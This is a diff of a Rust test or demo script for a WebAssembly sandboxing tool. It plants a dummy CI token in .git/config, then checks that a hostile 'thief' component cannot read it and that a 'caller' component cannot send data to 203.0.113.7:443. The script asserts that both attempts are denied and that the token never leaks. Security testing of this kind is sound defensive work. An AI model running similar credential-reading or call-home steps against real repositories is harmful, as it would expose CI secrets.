@@ -12,38 +12,59 @@ pub(super) const COMPONENTS: [&str; 2] = ["reach", "sockets"];
 /// The credential that a checkout leaves in the repository's own data.
 const TOKEN: &str = "dG9rZW4tb2YtdGhlLWpvYg==";
 
+/// What allows both to read manifests and nothing else.
+const RIGHTS: &str = "    allow: {workspace: [\"read envs/**\"]}\n";
+
 /// Tells it.
 pub(super) fn tell(stage: &mut Stage) -> Result<()> {
-    let before = stage.shown().len();
-    let digest = bring(stage)?;
-    stage.say("6. Now a thief. The checkout of a CI job holds a token, and a component from somewhere wants it.");
+    stage.say(
+        "6. A thief. The checkout of a job holds a token, and a component from elsewhere wants it. It is one that the\n\
+         tests attack with: it reads whatever it is told to. Without a policy none from outside is run.",
+    );
     let token = format!("AUTHORIZATION: basic {TOKEN}");
     stage.git(&["config", "http.https://git.example.com/.extraheader", &token], well(&[]))?;
     let planted = stage.shown().len();
-    let thief = ["../thief.wasm", "--act", "read", "--words"];
-    stage.say("Without a policy no component from outside is run.");
-    let refused = ["error: a component that is not built in runs only under a policy"];
-    stage.lockstep_full(&[&thief[..], &[".git/config"]].concat(), ends(3, &refused))?;
-    let policy = format!(
-        "version: 1\ncomponents:\n  - digest: {digest}\n    allow:\n      workspace: [\"read envs/**\"]\n"
-    );
-    fs::write(stage.path("policy.yaml"), &policy)?;
-    stage.tell("policy.yaml lets it read manifests:", &policy);
-    let policy = ["--policy", "../policy.yaml"];
-    stage.lockstep_full(&[&thief[..], &["envs/prod/web.yaml"], &policy].concat(), well(&[READ]))?;
-    stage.say("It reaches for the token.");
-    let denied = "error: denied: read `.git/config`: it is the repository's own data, out of reach for every step";
+    let policy = bring(stage)?;
+    let reads = ["../thief.wasm", "--act", "read", "--words"];
+    let refused = "error: a component that is not built in runs only under a policy";
+    stage.lockstep_full(&[&reads[..], &[".git/config"]].concat(), ends(3, &[refused]))?;
+    stage.tell("It is given one, which lets it read manifests. policy.yaml:", &policy);
+    let under = ["--policy", "../policy.yaml"];
+    let manifest = [&reads[..], &["envs/prod/web.yaml"], &under].concat();
+    stage.lockstep_full(&manifest, well(&["lockstep thief.wasm: done"]))?;
+    stage.say("So it runs. It reaches for the token.");
+    let denied =
+        "error: denied: read `.git/config`: it is the repository's own data, out of reach for every step";
     let receipt = ["--receipt", "../receipts/thief.json"];
-    stage.lockstep_full(&[&thief[..], &[".git/config"], &policy, &receipt].concat(), ends(3, &[denied]))?;
-    stage.say("Another one would call home, and is not even started.");
+    let steal = [&reads[..], &[".git/config"], &under, &receipt].concat();
+    stage.lockstep_full(&steal, ends(3, &[denied]))?;
+    stage.say("Another would call home. It is allowed the same, and is not even started.");
     let denied = "error: the component imports `wasi:sockets/network@0.2.6`, which no step is given";
-    let caller = ["../caller.wasm", "--act", "send", "--words", "203.0.113.7:443", "--policy", "../policy.yaml"];
-    stage.lockstep_full(&caller, ends(3, &[denied]))?;
+    let call =
+        ["../caller.wasm", "--act", "send", "--words", "203.0.113.7:443", "--policy", "../policy.yaml"];
+    stage.lockstep_full(&call, ends(3, &[denied]))?;
     receipts::show(stage, "thief", "denied")?;
-    let leaked = stage.shown()[planted..].iter().find(|shown| shown.output.contains(TOKEN));
-    ensure!(leaked.is_none(), "the token was shown: {leaked:?}");
-    let _ = before;
-    let left = fs::read_to_string(stage.path("receipts/thief.json"))?;
-    ensure!(!left.contains(TOKEN), "the token stands in the receipt of the thief");
+    nothing_leaked(stage, planted)
+}
+
+/// Brings the components, and the policy for them; gives its text.
+fn bring(stage: &Stage) -> Result<String> {
+    let mut policy = "version: 1\ncomponents:\n".to_owned();
+    for (component, name) in COMPONENTS.into_iter().zip(["thief.wasm", "caller.wasm"]) {
+        let from = stage.programs().hostile.join(format!("{component}.wasm"));
+        let wasm = fs::read(&from).with_context(|| from.display().to_string())?;
+        policy.push_str(&format!("  - digest: {} # {name}\n{RIGHTS}", Digest::of(&wasm)));
+        fs::write(stage.path(name), wasm)?;
+    }
+    fs::write(stage.path("policy.yaml"), &policy)?;
+    Ok(policy)
+}
+
+/// Fails if the token stands in what was shown since, or in the receipt.
+fn nothing_leaked(stage: &Stage, since: usize) -> Result<()> {
+    let leak = stage.shown().iter().skip(since).find(|shown| shown.output.contains(TOKEN));
+    ensure!(leak.is_none(), "the token was shown: {leak:?}");
+    let receipt = fs::read_to_string(stage.path("receipts/thief.json"))?;
+    ensure!(!receipt.contains(TOKEN), "the token stands in the receipt of the thief");
     Ok(())
 }
